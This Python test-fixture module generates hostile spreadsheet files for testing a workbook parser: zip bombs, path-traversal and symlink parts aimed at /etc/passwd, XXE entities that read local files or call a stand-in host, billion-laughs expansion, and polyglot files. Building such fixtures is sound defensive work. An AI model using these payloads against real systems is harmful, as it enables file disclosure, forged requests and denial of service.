"""Workbooks made to harm whoever opens them."""

from __future__ import annotations

import io
import stat
import struct
from collections.abc import Iterator
from zipfile import ZIP_BZIP2, ZIP_STORED, ZipFile, ZipInfo

from tests.make.bad_files.asked import text
from tests.make.bad_files.books import SHEET, TABLE, cell, good, ods, packed, parts, sheet
from tests.make.bad_files.made import Bad

GOOD = parts(sheet(TABLE))
MB = 2**20


def with_sheet(content: bytes) -> bytes:
    return packed(GOOD | {SHEET: content})


def declared(inside: str, used: str = "") -> bytes:
    xml = sheet(TABLE, H2=cell(7, 2, "here")).replace(b"here", used.encode() or b"here")
    return with_sheet(xml.replace(b"?>", f"?><!DOCTYPE a [{inside}]>".encode(), 1))


def patched(content: bytes, *, local: int, central: int, form: str, value: int) -> bytes:
    """An archive with one number changed in each header of a part and of the directory."""
    made = bytearray(content)
    for mark, offset in ((b"PK\3\4", local), (b"PK\1\2", central)):
        at = made.find(mark)
        while at >= 0:
            struct.pack_into(form, made, at + offset, value)
            at = made.find(mark, at + 4)
    return bytes(made)


def link() -> bytes:
    out = io.BytesIO()
    with ZipFile(out, "w") as archive:
        for name, content in GOOD.items():
            archive.writestr(ZipInfo(name, (2030, 1, 1, 0, 0, 0)), content)
        member = ZipInfo("xl/media/a")
        member.create_system, member.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        archive.writestr(member, "/etc/passwd")
    return out.getvalue()


def upon_each_other() -> bytes:
    whole = packed({"a": bytes(MB)})
    start = whole.index(b"PK\1\2")
    entries = whole[start : whole.index(b"PK\5\6")] * 40
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 40, 40, len(entries), start, 0)
    return whole[:start] + entries + end


def bzip2() -> bytes:
    out = io.BytesIO()
    with ZipFile(out, "w", ZIP_BZIP2) as archive:
        for name, content in GOOD.items():
            archive.writestr(name, content)
    return out.getvalue()


def texts(inside: bytes) -> dict[str, bytes]:
    links = "xl/_rels/workbook.xml.rels"
    more = b'<Relationship Id="rId98" Type="x/sharedStrings" Target="sharedStrings.xml"/></Re'
    made = b"<sst>" + inside + b"</sst>"
    return GOOD | {links: GOOD[links].replace(b"</Re", more), "xl/sharedStrings.xml": made}


def archives() -> Iterator[Bad]:
    whole = packed(GOOD)
    spaces = sheet(TABLE).replace(b"</sheetData>", b" " * 60 * MB + b"</sheetData>")
    yield Bad("bomb of spaces", "a sheet of 60 MB of spaces", lambda: with_sheet(spaces))
    yield Bad(
        "bomb of texts", "a list of texts of 60 MB", lambda: packed(texts(b"<si/>" * 12 * MB))
    )
    yield Bad(
        "bomb of parts",
        "6,000 parts",
        lambda: packed(GOOD | {f"xl/{n}.xml": b"<a/>" for n in range(6_000)}),
    )
    yield Bad(
        "bomb nested",
        "an archive in an archive in an archive",
        lambda: packed({"a.zip": packed({"b.zip": packed({"c": bytes(MB)})})}),
    )
    yield Bad(
        "bomb that lies",
        "a directory that says 1 byte for 60 MB",
        lambda: patched(with_sheet(spaces), local=22, central=24, form="<I", value=1),
    )
    yield Bad("parts upon each other", "forty parts that share their bytes", upon_each_other)
    yield Bad(
        "directory without end",
        "a directory that says 65,000 parts",
        lambda: whole[:-14] + struct.pack("<2H2LH", 65_000, 65_000, 9_000_000, 0, 0),
    )
    for name in ("../../x", "/etc/x", "xl\\..\\x", "C:/x", "xl/./x", "xl//x"):
        yield Bad(f"part {name}", f"a part named {name}", lambda n=name: packed(GOOD | {n: b"a"}))
    yield Bad(
        "part twice",
        "two parts of one name",
        lambda: packed(GOOD | {"xl/sty1es.xml": b"<a/>"}).replace(b"sty1es", b"styles"),
    )
    yield Bad("part link", "a part that is a link", link)
    yield Bad(
        "part locked",
        "parts with a password",
        lambda: patched(whole, local=6, central=8, form="<H", value=1),
    )
    yield Bad("part bzip2", "parts packed in a rare way", bzip2)
    yield Bad("cut in half", "half a workbook", lambda: whole[: len(whole) // 2])
    yield Bad("cut at the end", "the last ten bytes are missing", lambda: whole[:-10])
    yield Bad("only the start", "four bytes of a workbook", lambda: whole[:4])
    yield Bad(
        "wrong checksum",
        "bytes were changed",
        lambda: patched(whole, local=14, central=16, form="<I", value=7),
    )
    yield Bad(
        "middle lost", "a hole in the middle", lambda: whole[:900] + bytes(200) + whole[1_100:]
    )
    yield Bad("zeros behind", "a megabyte of zeros behind", lambda: whole + bytes(MB))
    yield Bad(
        "polyglot page",
        "a workbook that is also a web page",
        lambda: b"<html><script>1</script>" + whole,
    )
    yield Bad(
        "polyglot picture", "a picture that is also a workbook", lambda: b"GIF89a\1\0\1\0" + whole
    )
    yield Bad("polyglot pdf", "a PDF that is also a workbook", lambda: b"%PDF-1.4\n" + whole)
    yield Bad(
        "polyglot table",
        "a table that is also a workbook",
        lambda: text().encode() + packed(GOOD, method=ZIP_STORED),
    )
    yield Bad("polyglot program", "a program that is also a workbook", lambda: b"MZ\x90\0" + whole)


def xml() -> Iterator[Bad]:
    laughs = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)
    )
    yield Bad("laughs", "a billion laughs", lambda: declared(laughs, "&a11;"))
    yield Bad(
        "long entity",
        "one long entity, often",
        lambda: declared(f'<!ENTITY a "{"x" * 90_000}">', "&a;" * 9_000),
    )
    yield Bad(
        "entity from a file",
        "an entity that reads a file",
        lambda: declared('<!ENTITY a SYSTEM "file:///etc/passwd">', "&a;"),
    )
    yield Bad(
        "entity from the web",
        "an entity that calls a place",
        lambda: declared('<!ENTITY % a SYSTEM "http://x.example/a">%a;'),
    )
    yield Bad("type alone", "a document type and nothing more", lambda: declared(""))
    yield Bad(
        "entity in ODS",
        "an entity in a table of LibreOffice",
        lambda: (
            ods("&a;").replace(b"", b"")
            and packed(
                {
                    "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                    "content.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>',
                }
            )
        ),
    )
    yield Bad("nested 100,000", "XML nested 100,000 deep", lambda: with_sheet(b"<a>" * 100_000))
    yield Bad(
        "value of 5 MB",
        "an attribute of 5 MB",
        lambda: with_sheet(b"<a b='" + b"xyz " * 1_300_000 + b"'/>"),
    )
    yield Bad("tags crossed", "tags that do not fit", lambda: with_sheet(b"<a><b></a></b>"))
    yield Bad(
        "wide XML",
        "XML in UTF-16",
        lambda: with_sheet(sheet(TABLE).decode().replace("UTF-8", "UTF-16").encode("utf-16")),
    )
    yield Bad(
        "unknown letters",
        "XML in letters nobody knows",
        lambda: with_sheet(sheet(TABLE).replace(b"UTF-8", b"UTF-99")),
    )
    yield Bad("sheet of noise", "a sheet that is no XML", lambda: with_sheet(b"\0\1\2\3"))
    yield Bad("sheet empty", "a sheet without a byte", lambda: with_sheet(b""))
    yield Bad(
        "cells without end",
        "a cell at ZZZ9999999",
        lambda: good(H2='<c r="ZZZ9999999"><v>1</v></c>'),
    )
    yield Bad(
        "merges 50,000",
        "50,000 merged cells",
        lambda: with_sheet(
            sheet(
                TABLE,
                behind="<mergeCells>"
                + "".join(f'<mergeCell ref="A{n}:B{n}"/>' for n in range(5, 50_005))
                + "</mergeCells>",
            )
        ),
    )
